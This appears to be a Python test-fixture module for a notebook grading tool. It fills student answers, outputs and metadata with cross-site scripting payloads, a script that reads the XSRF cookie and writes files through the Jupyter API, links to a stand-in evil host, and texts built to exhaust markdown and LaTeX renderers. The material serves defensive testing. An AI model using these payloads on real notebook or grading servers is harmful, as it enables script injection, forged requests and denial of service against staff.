"""What students try on the pages that staff open: scripts, links, disguises, and texts that no renderer survives.

Every script would call ``pwned(NAME)`` and every request would go to ``EVIL``: neither may ever be seen.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from pathlib import Path
from typing import Any

import nbformat
from damage import cell_of

EVIL = "http://evil.invalid"
CALL = "window.pwned(1)"
SCRIPT = f"<script>{CALL}</script>"
IMAGE = f"<img src=x onerror={CALL}>"
DISGUISE = 'class="modal-backdrop fade" id="fold_proof" style="position:fixed;top:0;left:0;width:100%;height:100%"'


def png(side: int = 2) -> str:
    """A black picture, in base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\0" + b"\0" * side for _ in range(side)))
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>'.encode()).decode()

# Markdown of an answer, by the kind of injection.
INJECTIONS = {
    "script": f"{SCRIPT}<script src='{EVIL}/a.js'></script>",
    "script split by markdown": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "handler of a picture": f'<img src=x onerror="{CALL}"> <img src="data:image/png;base64,xx" onerror={CALL}>',
    "handler of anything": f'<p onmouseover="{CALL}" onclick="{CALL}" onfocus="{CALL}" tabindex=0 autofocus>x</p>',
    "details that open": f'<details open ontoggle="{CALL}"><summary>x</summary></details>',
    "the student's own file, over everything": f'<a href="evil.html" {DISGUISE}>x</a>',
    "markdown link to the file": "[my sketch](evil.html) ![plot](evil.html) [again][e]\n\n[e]: evil.html",
    "script link": f"[x](javascript:{CALL}) <a href='java&#115;cript:{CALL}'>x</a> <javascript:{CALL}>",
    "data link": f"[x](data:text/html,{SCRIPT}) <a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "link away": f'<a href="{EVIL}/a" target="_blank" ping="{EVIL}/ping">x</a> {EVIL}/bare',
    "remote picture": f"![x]({EVIL}/a.png) <img src={EVIL}/b.png srcset='{EVIL}/c.png 1x'> <image src={EVIL}/d.png>",
    "picture that is SVG": f"![x](data:image/svg+xml;base64,{SVG}) <img src='data:image/svg+xml;base64,{SVG}'>",
    "inline SVG": f"<svg onload={CALL}><a xlink:href='evil.html'><rect width=900 height=900 /></a></svg>",
    "MathML link": f"<math href='javascript:{CALL}' xlink:href=evil.html><mtext><a href=evil.html>x</a></mtext></math>",
    "parser confusion": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    "comment confusion": f"<!-->{IMAGE}--> <![CDATA[{IMAGE}]]>",
    "attribute confusion": f"<img alt=\"`<a href='evil.html'>`\" title='\">{SCRIPT}'> ",
    "no script": f'<noscript><p title="</noscript>{IMAGE}"></noscript>',
    "frames": f"<iframe src=evil.html></iframe><iframe srcdoc='<script>parent.{CALL}</script>'></iframe><frame src=a>",
    "objects": "<object data=evil.html></object><embed src=evil.html><applet code=evil></applet><portal src=evil.html>",
    "forms": f"<form action={EVIL}/f><input name=score autofocus><button formaction={EVIL}>Full credit</button></form>",
    "base and refresh": f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url=evil.html'>",
    "style": f"<style>@import '{EVIL}/a'; p {{ background: url({EVIL}/b) }}</style><link rel=stylesheet href={EVIL}/c>",
    "name of the page's own": "<div id=statusmessage class='score nbgrader_cell' name=top>20</div><img name=cookie>",
    "formulas that act": rf"$\href{{javascript:{CALL}}}{{x}}$ $\require{{html}}\class{{fade}}{{x}}$ "
    rf"$\cssId{{a}}{{x}} \style{{position:fixed}}{{x}} \unicode{{x3cscript}}$ $$\text{{{IMAGE}}}$$",
    "formula over the page": r"$\rule{90em}{90em} \hspace{-90em} \raise90em{x} \kern-50em x$",
    "code block": f"```html\n{SCRIPT}\n```\n```mermaid\n</pre>{SCRIPT}\n```\n`{SCRIPT}`",
    "table and heading": f"# {SCRIPT} <a name=x id=y>h</a>\n\n| {IMAGE} | b |\n|--|--|\n| [x](evil.html) | 2 |",
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;img src=x onerror={CALL}&#62;",
    "template": f"<template>{IMAGE}</template><slot><portal></slot><x-y is=z onclick={CALL}>x</x-y>",
}

EVIL_FILE = (
    "<script>fetch('/api/contents/pwned.txt', {method: 'PUT', headers: {'X-XSRFToken': "
    "document.cookie.match('_xsrf=([^;]*)')[1]}, body: '{}'}); opener && opener.pwned(1)</script>the student's page"
)
PRINTED = f"\x1b[31m{SCRIPT}\x1b[0m\x1b]8;;evil.html\x07x\x1b]8;;\x07 \x1b[38;2;1;2;3mred</pre>{IMAGE}"


def hostile(notebook: Any) -> None:
    """Fill a notebook's answers and cells with every injection; an honest picture and formula stand among them."""
    answer = cell_of(notebook, "fold_proof")
    pieces = [f"**{kind}**\n\n{text}" for kind, text in INJECTIONS.items()]
    honest = r"![honest](attachment:honest.png) and $\frac{1}{2} \mathbf{W}$"
    answer.source = "\n\n".join([honest, *pieces])
    answer["attachments"] = {
        "honest.png": {"image/png": png(), "image/svg+xml": SVG},
        f'">{SCRIPT}': {"text/html": f"{SCRIPT}", "image/jpeg": "xx"},
    }
    hidden = f"def threshold_relu(x, t):\n    '</pre>{SCRIPT}{IMAGE}'\n"
    cell_of(notebook, "threshold_relu").source = hidden + "    return np.maximum(x, np.asarray(t, x.dtype))\n"
    notebook.cells.append(nbformat.v4.new_code_cell(f"print({PRINTED!r})\nraise ValueError({PRINTED!r})"))
    notebook.cells.append(nbformat.v4.new_raw_cell(f"{SCRIPT}<a href=evil.html {DISGUISE}>x</a>"))
    notebook.metadata["title"] = f"</title>{SCRIPT}"


def tamper(folder: Path) -> None:
    """What should never have got past the grader: hostile files, outputs, metadata in ``autograded/STUDENT/a1``."""
    for name in ("evil.html", "evil.js", "evil.svg", "notes.txt", "honest.png", "evil.css"):
        (folder / name).write_text(EVIL_FILE)
    (path,) = folder.glob("*.ipynb")
    path.chmod(0o644)
    notebook = json.loads(path.read_text())
    html = f"{SCRIPT}<a href=evil.html {DISGUISE}>x</a>"
    kinds = (
        *("text/html", "text/markdown", "text/latex", "text/plain", "text/vnd.mermaid", "image/svg+xml", "image/gif"),
        *("application/javascript", "application/pdf", "application/vnd.jupyter.widget-view+json"),
    )
    outputs = [
        *({"output_type": "display_data", "data": {"text/plain": "x", kind: html}, "metadata": {}} for kind in kinds),
        _picture(f'x" onerror="{CALL}', {"width": f'1 onload="{CALL}"'}),
        _picture(png(), {"alt": f'">{SCRIPT}', "unconfined": html}),
        {"output_type": "stream", "name": "stdout", "text": html},
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [html, PRINTED]},
    ]
    metadata = {"tags": [f'">{SCRIPT}'], "magics_language": html, "alt": html}
    code = {"cell_type": "code", "id": "x", "source": "%%html\n" + html, "execution_count": 1}
    raw = {"cell_type": "raw", "id": "y", "source": html, "metadata": {"raw_mimetype": "text/html"}}
    notebook["cells"] += [code | {"metadata": metadata, "outputs": outputs}, raw]
    notebook["metadata"] = {
        "title": html,
        "language_info": {"name": html, "pygments_lexer": "html"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {html: html}}},
    }
    path.write_text(json.dumps(notebook))


def _picture(data: str, metadata: dict[str, str]) -> dict[str, Any]:
    data_of_all = {"image/png": data, "text/plain": "drawn"}
    return {"output_type": "display_data", "data": data_of_all, "metadata": {"image/png": metadata}}


# Texts on which a renderer takes seconds, minutes or all the memory there is: what the answer holds, by kind.
DOUBLING = "".join(rf"\newcommand{{\m{chr(98 + n)}}}{{\m{chr(97 + n)}\m{chr(97 + n)}}}" for n in range(24))
WEARING = {
    "environments": r"\begin{a}" * 20_000,
    "fewer environments": r"\begin{a}" * 6_000,
    "environments of many names": "".join(rf"\begin{{{'a' * (n % 90)}}}" for n in range(1_000)),
    "dollars": "$ " * 29_000,
    "pairs of dollars": "$$ a" * 15_000,
    "brackets": "[" * 50_000,
    "brackets and links": "[a](" * 15_000,
    "pictures": "![" * 30_000,
    "emphasis": "*a " * 19_000,
    "underscores and stars": "**a_ " * 12_000,
    "quotes": ">" * 50_000,
    "nested quotes": "\n".join("> " * n + "a" for n in range(240)),
    "nested lists": "\n".join("  " * n + "- a" for n in range(240)),
    "tables": "|a" * 14_000 + "\n" + "|-" * 14_000,
    "less-than": "<" * 60_000,
    "tags": "<b>" * 20_000,
    "links that never end": "<a>" * 19_000,
    "displays that never end": r"\\[" * 19_000,
    "comments": "<!--" * 15_000,
    "links that are none": "<a href=" * 7_000,
    "backticks": "".join("`" * n + "a" for n in range(340)),
    "one long line": "a" * 59_000,
    "longer than an answer may be": "a b " * 200_000,
    "entities": "&" * 60_000,
    "escapes": "\\" * 60_000,
    "definitions": "\n".join(f"[{n}]: x" for n in range(5_000)),
    "formula of braces": "$" + "{" * 25_000 + "}" * 25_000 + "$",
    "macro that doubles": rf"$\newcommand{{\ma}}{{xx}}{DOUBLING}\my$",
    "picture many times": "![a](attachment:honest.png)" * 2_000,
    "definition lists": "a\n: b\n" * 9_000,
    "struck through": "~~a" * 19_000,
}
# The same for cells of code, and for what was printed.
WEARING_CODE = {
    "parentheses": "(" * 99_000, "quotes": "'" * 99_000, "open strings": "f'{" * 33_000, "dots": "_." * 49_000,
    "decorators": "@" * 99_000, "backslashes": "\\" * 99_000, "questions": "?" * 99_000, "long": "x = 1\n" * 90_000,
}  # fmt: skip
WEARING_PRINTED = {
    "colours": "\x1b[31ma" * 30_000, "open sequences": "\x1b[" * 99_000, "parameters": "\x1b[" + "1;" * 99_000 + "m",
    "one line and a return": "a" * 190_000 + "\r\n", "too long": "a" * 900_000,
}  # fmt: skip

ANSWERS = ("fold_proof", "same_padding_proof", "sigmoid_proof")
KINDS = list(WEARING)
# Three texts for each student: one for each answer of a1.
WORN = {f"worn-{n:02d}": KINDS[3 * n : 3 * n + 3] for n in range(-(-len(KINDS) // 3))}
BEYOND = ("environments", "displays that never end", "links that never end", "longer than an answer may be")
FLAGGED = {student for student, kinds in WORN.items() if set(kinds) & set(BEYOND)}


def wearing_class(classroom: Any) -> dict[str, Any]:
    """A perfect notebook for each student, the hostile ones with what wears a renderer out in their answers."""
    made = {}
    for student in ("aa-honest", *WORN, "zz-honest"):
        notebook = made[student] = classroom.notebook()
        for answer, kind in zip(ANSWERS, WORN.get(student, ()), strict=False):
            cell_of(notebook, answer).source = WEARING[kind]
            cell_of(notebook, answer)["attachments"] = {"honest.png": {"image/png": png()}}
    return made
